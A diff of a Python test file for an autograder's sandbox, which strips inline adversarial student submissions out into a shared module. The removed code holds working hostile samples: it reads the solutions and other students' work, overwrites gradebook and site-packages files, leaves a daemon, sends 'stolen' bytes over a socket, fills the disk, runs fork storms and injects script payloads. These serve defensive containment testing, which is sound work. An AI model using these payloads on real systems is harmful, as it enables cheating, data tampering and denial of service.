@@ -5,252 +5,41 @@ reaches them.
 Each attacker hands in the blank release plus one cell of attack, so any solution
 text found in what they get back is a leak. The honest and victim students keep
 their exact scores, the course's files stay byte-identical, and no process an
-attacker started outlives grading.
+attacker started outlives grading. The attackers are graded in the same class as
+``test_grade_class``'s students (``tests/adversarial.py``), once per test run.
 """
 
 from __future__ import annotations
 
 import ast
-import hashlib
 import os
 import re
-import socket
 import subprocess
 import sys
-import sysconfig
-import threading
 from pathlib import Path
 
 import pytest
+from adversarial import MARKER, GradedClass, pth_files, running_with, tree_hashes
 from nbgrader.api import Gradebook
 
 from autograder import cgroups, submissions
-from autograder.course import db_url, make_course, submit
+from autograder.course import db_url
 from autograder.mistakes import CATALOG
 from autograder.paths import course_root, solution_notebook
 from autograder.verify import grade_cells
 
-pytestmark = pytest.mark.xdist_group("containment")
+pytestmark = pytest.mark.xdist_group("adversarial")  # shares the graded class with test_grade_class
 
 A = "assign_5a"
 POINTS = {fn: p for fn, (_, p) in grade_cells(A).items()}
-MARKER = "containment-daemon-7f3a"
 # Lines of the reference solution that no release notebook contains.
 SOLUTION_LINES = ("np.tanh(Waa @ a_prev + Wax @ xt + ba)", "h_tilde = np.tanh(")
 
 
-def _attacks(course: Path, port: int) -> dict[str, str]:
-    """student -> the code cell of their attack (they know where the course lives)."""
-    repo = course_root()
-    return {
-        "reads_solutions": f"""
-import pathlib, autograder
-for root in (pathlib.Path(autograder.__file__).resolve().parents[1], pathlib.Path({str(repo)!r}),
-             pathlib.Path({str(course)!r})):
-    for nb in root.glob("solutions/*/*.ipynb"):
-        print(nb.read_text())
-""",
-        "reads_other_students": f"""
-import pathlib
-for nb in pathlib.Path({str(course)!r}).glob("submitted/*/*/*.ipynb"):
-    print(nb.read_text())
-""",
-        "rewrites_the_course": f"""
-import pathlib, site, sysconfig
-course, repo = pathlib.Path({str(course)!r}), pathlib.Path({str(repo)!r})
-targets = [course / "gradebook.db", course / "nbgrader_config.py", repo / "autograder" / "judge.py",
-           *course.glob("grading/*/*.json"), *course.glob("submitted/victim/*/*.ipynb"),
-           pathlib.Path(sysconfig.get_paths()["purelib"]) / "zz_attack.pth"]
-for t in targets:
-    try:
-        t.write_text("owned")
-    except OSError as e:
-        print("blocked", t, type(e).__name__)
-import shutil
-shutil.rmtree(course / "submitted" / "victim", ignore_errors=True)
-""",
-        "leaves_a_daemon": f"""
-import os, sys
-if os.fork() == 0:
-    os.setsid()
-    if os.fork() == 0:
-        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "{MARKER}"])
-    os._exit(0)
-import time
-time.sleep(1)
-alive = [p for p in os.listdir("/proc") if p.isdigit() and os.path.exists(f"/proc/{{p}}/cmdline")]
-print("daemon started" if any("{MARKER}" in open(f"/proc/{{p}}/cmdline").read() for p in alive) else "none")
-""",
-        "reads_the_environment": """
-import os
-print("ENVIRONMENT", sorted(os.environ.items()))
-""",
-        "phones_home": f"""
-import socket
-try:
-    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen")
-except OSError as e:
-    print("no network:", e)
-""",
-        "fills_the_disk": f"""
-import os, pathlib
-for folder in (".", "/tmp", {str(course)!r}):
-    try:
-        with open(os.path.join(folder, "big.bin"), "wb") as f:
-            for _ in range(2048):
-                f.write(b"x" * 1024**2)
-    except OSError as e:
-        print("stopped:", type(e).__name__)
-""",
-        # the same, from inside a graded function: run by the kernel's grade cell and, alone,
-        # by the trusted verify's sandbox
-        "attacks_from_a_function": f"""
-def rnn_cell_forward(xt, a_prev, parameters):
-    import os, pathlib, socket, sys
-    course = pathlib.Path({str(course)!r})
-    for nb in [*course.glob("solutions/*/*.ipynb"), *course.glob("submitted/*/*/*.ipynb")]:
-        print(nb.read_text())
-    for target in (course / "gradebook.db", course / "nbgrader_config.py", pathlib.Path("/tmp/planted")):
-        try:
-            target.write_text("owned")
-        except OSError:
-            pass
-    for i in range(64):
-        try:
-            with open(f"big{{i}}.bin", "wb") as f:
-                f.write(b"x" * 64 * 1024**2)
-        except OSError:
-            break
-    try:
-        socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"stolen")
-    except OSError:
-        pass
-    if os.fork() == 0:
-        os.setsid()
-        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", "{MARKER}"])
-    raise ValueError("<script>alert('owned')</script>")
-""",
-        "fork_storm": """
-import os, time
-n = 0
-try:
-    for _ in range(3000):
-        if os.fork() == 0:
-            time.sleep(30)
-            os._exit(0)
-        n += 1
-except OSError:
-    pass
-print(f"forked {n} processes")
-""",
-        "memory_hog": """
-import os, time
-import numpy as np
-r, w = os.pipe()
-for _ in range(8):
-    if os.fork() == 0:
-        hog = np.ones(125_000_000)  # 1 GB, touched and kept
-        os.write(w, f"{os.getpid()}\\n".encode())
-        time.sleep(30)
-        os._exit(0)
-os.close(w)
-holders, deadline = set(), time.time() + 20
-os.set_blocking(r, False)
-while time.time() < deadline and len(holders) < 8:
-    try:
-        holders |= {int(p) for p in os.read(r, 4096).split()}
-    except BlockingIOError:
-        time.sleep(0.1)
-# those still alive hold their gigabyte at the same moment (the others were stopped)
-holding = sum(os.waitpid(p, os.WNOHANG)[0] == 0 for p in holders)
-print(f"holding {holding} GB at once")
-""",
-        "prints_helper_source": """
-import inspect
-def rnn_forward(x, a0, parameters):
-    for name in ("rnn_cell_forward", "softmax"):
-        try:
-            print(inspect.getsource(globals()[name]))
-        except Exception as e:
-            print(name, type(e).__name__)
-    raise ValueError("<script>alert('owned')</script>")
-
-from IPython.display import HTML, display
-display(HTML("<script>alert('owned2')</script><img src=x onerror=alert(3)>"))
-""",
-    }
-
-
-def _tree_hashes(*roots: Path) -> dict[str, str]:
-    out = {}
-    for root in roots:
-        for p in sorted(root.rglob("*")):
-            if p.is_file() and "__pycache__" not in p.parts:
-                out[str(p)] = hashlib.sha256(p.read_bytes()).hexdigest()
-    return out
-
-
-def _pth_files() -> list[str]:
-    folders = {sysconfig.get_paths()[k] for k in ("purelib", "platlib")}
-    return sorted(str(p) for folder in folders for p in Path(folder).glob("*.pth"))
-
-
-def _running_with(marker: str) -> list[str]:
-    found = []
-    for cmdline in Path("/proc").glob("[0-9]*/cmdline"):
-        try:
-            text = cmdline.read_bytes().replace(b"\0", b" ").decode(errors="replace")
-        except OSError:
-            continue
-        if marker in text:
-            found.append(text)
-    return found
-
-
 @pytest.fixture(scope="module")
-def attacked(tmp_path_factory: pytest.TempPathFactory):
-    course = make_course(tmp_path_factory.mktemp("contained") / "course")
-    received: list[bytes] = []
-    server = socket.socket()
-    server.bind(("127.0.0.1", 0))
-    server.listen()
-    server.settimeout(0.5)
-    stop = threading.Event()
-
-    def listen() -> None:
-        while not stop.is_set():
-            try:
-                conn, _ = server.accept()
-                received.append(conn.recv(100))
-            except OSError:
-                continue
-
-    threading.Thread(target=listen, daemon=True).start()
-    attacks = _attacks(course, server.getsockname()[1])
-    full, blank = submissions.completed(A), submissions.release(A)
-    submit(course, "honest", A, full)
-    submit(course, "victim", A, full)
-    swapped = CATALOG["gru_cell_forward"][0]
-    submit(course, "buggy", A, submissions.with_mistake(A, "gru_cell_forward", swapped))
-    for student, code in attacks.items():  # the last definition of a function is the one graded
-        after = None if "\ndef rnn_" in code else "code_setup"
-        submit(course, student, A, submissions.add_cell(blank, code, after=after))
-    # what must not change: the course's inputs, the package, site-packages' hooks
-    watched = [
-        course / "solutions",
-        course / "submitted",
-        course_root() / "autograder",
-        course_root() / "solutions",
-    ]
-    before = _tree_hashes(*watched)
-    config = (course / "nbgrader_config.py").read_bytes()
-    pth = _pth_files()
-    cmd = [sys.executable, "-m", "autograder", "grade", A, "--course", str(course), "--workers", "2"]
-    run = subprocess.run(cmd, capture_output=True, text=True, timeout=1200, check=False)
-    stop.set()
-    assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
-    after = _tree_hashes(*watched)
-    return course, attacks, run, before, after, config, pth, received
+def attacked(graded_class: GradedClass):
+    g = graded_class
+    return g.course, g.attacks, g.run, g.before, g.after, g.config, g.pth, g.received
 
 
 def test_honest_victim_and_attackers_get_exact_scores(attacked) -> None:
@@ -268,13 +57,13 @@ def test_course_package_and_python_are_unchanged(attacked) -> None:
     course, _, _, before, after, config, pth, _ = attacked
     assert after == before
     assert (course / "nbgrader_config.py").read_bytes() == config
-    assert _pth_files() == pth
+    assert pth_files() == pth
     assert not list(course.rglob("big*.bin")) and not Path("/tmp/planted").exists()
 
 
 def test_no_attacker_process_survives(attacked) -> None:
     course, *_ = attacked
-    assert not _running_with(MARKER)
+    assert not running_with(MARKER)
     # the daemons did start: they said so before grading ended (else this test proves nothing)
     assert "daemon started" in (course / "autograded" / "leaves_a_daemon" / A / f"{A}.ipynb").read_text()
 
@@ -350,8 +139,8 @@ def test_the_front_end_and_verify_contain_the_same_attack(attacked, tmp_path: Pa
     verify += ["--student", "attacks_from_a_function"]
     assert subprocess.run(verify, capture_output=True, text=True, timeout=600).returncode == 0
     watched = [course / "solutions", course / "submitted"]
-    assert _tree_hashes(*watched, course_root() / "autograder", course_root() / "solutions") == before
-    assert not _running_with(MARKER) and received == []
+    assert tree_hashes(*watched, course_root() / "autograder", course_root() / "solutions") == before
+    assert not running_with(MARKER) and received == []
     assert not list(course.rglob("big*.bin")) and not Path("/tmp/planted").exists()
 
 
@@ -369,8 +158,6 @@ def _solution_lines(assignment: str) -> set[str]:
     strings of its catalogued mistakes, that the release does not also hold (and long
     enough not to be generic)."""
     import nbformat as nbf
-
-    from autograder.mistakes import CATALOG
 
     region = re.compile(r"### BEGIN SOLUTION\n(.*?)### END SOLUTION", re.S)
     solution = nbf.read(solution_notebook(assignment), as_version=4)
